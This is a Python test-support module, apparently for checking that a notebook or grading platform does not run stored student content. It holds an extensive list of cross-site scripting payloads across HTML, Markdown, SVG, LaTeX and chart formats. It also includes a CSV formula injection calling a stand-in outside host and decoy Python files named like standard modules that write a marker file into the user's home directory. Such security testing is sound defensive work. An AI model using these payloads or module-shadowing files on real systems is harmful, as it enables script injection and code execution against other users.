"""Scripts that a student may store, and what shows in a real browser that one of them ran.

Each calls ``synakRan`` with its number, a function that `Watch` puts into every frame of every
page; what calls home asks ``OUTSIDE``. They are texts: of Markdown, of HTML, of names.
"""

from __future__ import annotations

import json
from typing import Any, Final
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Request, Route

OUTSIDE: Final = "http://outside.example"
"""Never asked for real: requests to anywhere but this machine are counted and ended."""
RAN: Final = "synakRan"
_TEXTS: Final = r"""
<script>RAN</script>
<img src=x onerror=RAN>
<svg onload=RAN></svg>
<svg><script>RAN</script></svg>
<svg><animate onbegin=RAN attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:RAN"><text x="20" y="20">click</text></a></svg>
<iframe srcdoc="<script>parent.RAN</script>"></iframe>
<iframe src="javascript:parent.RAN"></iframe>
<object data="javascript:RAN"></object><embed src="data:text/html,<script>opener.RAN</script>">
<details open ontoggle=RAN>x</details><video><source onerror=RAN></video>
<input autofocus onfocus=RAN><textarea autofocus onfocus=RAN></textarea>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=RAN>x</b>
<meta http-equiv="refresh" content="0;url=OUTSIDE/meta"><base href="OUTSIDE/">
<link rel="stylesheet" href="OUTSIDE/style.css"><script src="OUTSIDE/script.js"></script>
<form action="javascript:RAN"><button>click</button></form><button formaction="javascript:RAN">
<noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN&gt;">
<math href="javascript:RAN">click</math><math><mi xlink:href="data:x,<script>RAN</script>">
<!--><img src=x onerror=RAN>--><![CDATA[><img src=x onerror=RAN>]]>
</textarea></title></style></pre></code></script><img src=x onerror=RAN>
" onmouseover="RAN" autofocus onfocus="RAN" x="
' onmouseover='RAN' autofocus onfocus='RAN' x='
";RAN;// ';RAN;// `;RAN;// </script><script>RAN</script>
{{constructor.constructor('RAN')()}} {{7*7}} ${RAN} <%= RAN %> {% raw %}
<a href="javascript:RAN">click</a> <a href=" &#1;java&#10;script:RAN">click</a>
[click](javascript:RAN) [click](JaVaScRiPt&colon;RAN) [click](&#106;avascript:RAN)
<javascript:RAN> [click][1]

[1]: javascript:RAN "x"
[click](data:text/html,<script>RAN</script>) ![x](data:image/svg+xml,<svg/onload=RAN>)
![x](x" onerror="RAN) [x](x" onmouseover="RAN) ![x](x 'y" onerror="RAN')
![home](OUTSIDE/picture.png) <img srcset="OUTSIDE/srcset.png 1x"> <video poster=OUTSIDE/poster.png>
<p style="background:url(OUTSIDE/background.png)">x</p><audio src=OUTSIDE/audio autoplay></audio>
```"><img src=x onerror=RAN>
code
```
```mermaid
graph TD; A["<img src=x onerror=RAN>"]; click A call RAN
```
# Heading <img src=x onerror=RAN> {#x" onfocus=RAN autofocus}
| a | b |
|---|---|
| <img src=x onerror=RAN> | <svg onload=RAN> |
$\href{javascript:RAN}{click}$ $\unicode{<img src=x onerror=RAN>}$ $a<img src=x onerror=RAN>b$
$$\require{html}\style{background:url(OUTSIDE/math.png)}{x}\cssId{x" onfocus=RAN}{\class{y}{z}}$$
\begin{equation}<img src=x onerror=RAN>\end{equation} \\(<svg onload=RAN>\\)
"""


def _split() -> tuple[str, ...]:
    """One text a line; what belongs together over several lines ends before the next beginning."""
    made: list[str] = []
    fenced = False
    for line in _TEXTS.strip("\n").splitlines():
        goes_on = fenced or line.startswith(("[1]:", "| <", "|--")) or not line
        fenced ^= line.startswith("```")
        made[len(made) - goes_on :] = [f"{made[-1]}\n{line}" if goes_on else line]
    return tuple(
        each.replace("RAN", f"{RAN}({number})").replace("OUTSIDE", OUTSIDE)
        for number, each in enumerate(made)
    )


TEXTS: Final = _split()
SHORT: Final = (
    "'\"></title></textarea></script><svg onload=synakRan(100)>"
    "<img src=x onerror=synakRan(101)>[m](javascript:synakRan(102)){{7*7}}"
)
"""For places that hold a line: breaks out of whatever it stands in."""
_PICTURE: Final = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}(200)'><script>{RAN}(201)</script></svg>"
)
_CHART: Final = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "data": [{"name": "t", "url": f"{OUTSIDE}/vega.json"}],
    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{OUTSIDE}/mark.png"}}}}],
    "signals": [{"name": "s", "init": f"{RAN}(202)"}],
}
OUTPUTS: Final[dict[str, Any]] = {
    "text/html": "\n".join(TEXTS),
    "text/markdown": "\n\n".join(TEXTS),
    "application/javascript": f"{RAN}(203); element.innerHTML = '<img src=x onerror={RAN}(204)>'",
    "image/svg+xml": _PICTURE,
    "text/latex": f"$\\href{{javascript:{RAN}(205)}}{{x}}$ <img src=x onerror={RAN}(206)>",
    "application/vnd.jupyter.widget-view+json": {"model_id": SHORT, "version_major": 2},
    "application/vnd.vega.v5+json": _CHART,
    "application/vnd.vegalite.v5+json": {"data": {"url": f"{OUTSIDE}/l.json"}, "mark": "point"},
    "application/geo+json": {"type": "Feature", "properties": {"popup": SHORT}},
    "application/json": {SHORT: SHORT},
    "image/png": f'" onerror="{RAN}(207)',
    "text/plain": f"\x1b[31m{SHORT}\x1b]8;;javascript:{RAN}(208)\x07click{'x' * 90_000}",
}
"""What a cell shows, by its media type."""
NOTE: Final = "synak-a-student-was-here"
"""Before the names of programs that ran in somebody else's home."""
_PROGRAM: Final = (
    f"import os\nopen(os.path.expanduser('~/{NOTE}-') + os.path.basename(__file__), 'w').close()\n"
)
_NAMES: Final = tuple(
    f"{each}.py" for each in ("nbgrader_config", "ipykernel_launcher", "pathlib", "runpy", "json")
)
FILES: Final = {
    "notes.md": "\n\n".join(TEXTS),
    "table.csv": f'=HYPERLINK("{OUTSIDE}"),{SHORT}\n@SUM(1),-1\n',
    "picture.png": _PICTURE,
    "data.json": json.dumps({SHORT: SHORT}),
    "plain.txt": "\n".join(TEXTS),
    "; RAN() (1) [x](y) {7} #a=b!@, алма.txt": SHORT,
    **dict.fromkeys(_NAMES, _PROGRAM),
}
"""Beside a notebook: what viewers show, and modules that a program might take for its own."""
_ARMED: Final = """() => [...document.querySelectorAll('*')].flatMap(each =>
  [...each.attributes].filter(({name, value}) =>
    (name.startsWith('on') && value.includes('synakRan')) ||
    (/^(href|xlink:href|src|srcset|action|formaction|data|poster|srcdoc|values|to)$/.test(name) &&
     /^[\\s\\x00-\\x20]*(javascript|vbscript|data:(?!image\\/(png|jpeg)|font|application\\/x-font))/i
       .test(value)) ||
    (name === 'srcdoc' && value.includes('synakRan'))
  ).map(({name, value}) => `${each.tagName} ${name}=${value.slice(0, 80)}`))"""


class Watch:
    """What runs, is armed, calls home or breaks on the pages of a browser.

    Args:
        context: the browser of somebody.

    Attributes:
        ran: numbers of scripts that ran, with the address of the frame.
        outside: addresses away from this machine that were asked for.
        blocked: what only the page's policy stopped.
        broken: errors that no script caught, and dialogs.
    """

    def __init__(self, context: BrowserContext) -> None:
        self.forget()
        context.expose_binding(RAN, self._ran)
        context.route(_elsewhere, self._end)
        context.on("page", self.over)
        for page in context.pages:
            self.over(page)

    def forget(self) -> None:
        """Begin anew."""
        self.ran: list[tuple[object, str]] = []
        self.outside: list[str] = []
        self.blocked: list[str] = []
        self.broken: list[str] = []

    def over(self, page: Page) -> None:
        """Watch one more page."""
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.broken.append(str(error)))
        page.on("dialog", self._dialog)

    def _ran(self, source: dict[str, object], *number: object) -> None:
        self.ran.append((*number[:1], str(getattr(source["frame"], "url", ""))))  # type: ignore[arg-type]

    def _end(self, route: Route, request: Request) -> None:
        self.outside.append(request.url)
        route.abort()

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.blocked.append(message.text)

    def _dialog(self, dialog: Dialog) -> None:
        if dialog.type == "beforeunload":
            dialog.accept()
            return
        self.broken.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def look(self, page: Page) -> list[str]:
        """What could still run on the page as it stands, once somebody points or clicks."""
        found: list[str] = page.evaluate(_ARMED)
        return found

    @property
    def all(self) -> list[object]:
        """Everything that happened."""
        return [*self.ran, *self.outside, *self.blocked, *self.broken]


def _elsewhere(address: str) -> bool:
    host = urlsplit(address).hostname or ""
    return urlsplit(address).scheme in {"http", "https", "ws", "wss"} and not (
        host in {"localhost", "127.0.0.1"} or host.endswith(".localhost")
    )
